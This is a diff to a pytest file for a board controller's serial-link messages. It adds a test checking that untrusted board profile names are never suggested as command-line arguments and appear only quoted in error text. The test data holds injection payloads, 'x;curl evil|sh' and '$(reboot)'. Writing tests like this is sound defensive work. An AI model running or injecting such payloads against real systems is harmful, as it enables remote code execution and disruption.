@@ -1,10 +1,11 @@
 """The host's end of the wire: how links begin and end, and what the user reads."""
 
+import re
 from dataclasses import replace
 
 import pytest
 
-from manalath_board.controller.messages.catalogue import word
+from manalath_board.controller.messages.catalogue import LANGUAGES, catalogue, word
 from manalath_board.controller.ports import (
     BoardEvent,
     Capabilities,
@@ -261,6 +262,22 @@ def test_a_name_that_is_not_printable_is_no_hello(text: str) -> None:
     wired.board.hello = replace(HELLO, profile=text)
     assert unlinked(wired.run(5000)) == [link_errors.NO_BOARD]
     assert wired.to_board.sent == b""
+
+
+@pytest.mark.parametrize(
+    ("name", "is_suggested"),
+    [("sq36-dual-mega", True), ("x;curl evil|sh", False), ("$(reboot)", False), ("hex70-dual-mega2", False)],
+)
+def test_only_a_profile_that_ships_is_suggested_for_the_command_line(
+    name: str, *, is_suggested: bool
+) -> None:
+    wired = Wired()
+    wired.board.hello = replace(HELLO, profile=name)
+    (trouble,) = unlinked(wired.run(500))
+    for words in map(catalogue, LANGUAGES):
+        assert (f"serial:auto@{name}" in word(trouble.cure, words)) is is_suggested
+        assert (name in word(trouble.cure, words)) is is_suggested
+        assert re.search(f"['«\xa0\u202f]{re.escape(name)}['»\xa0\u202f]", word(trouble.cause, words))
 
 
 @pytest.mark.parametrize("is_fitting_between", [False, True])
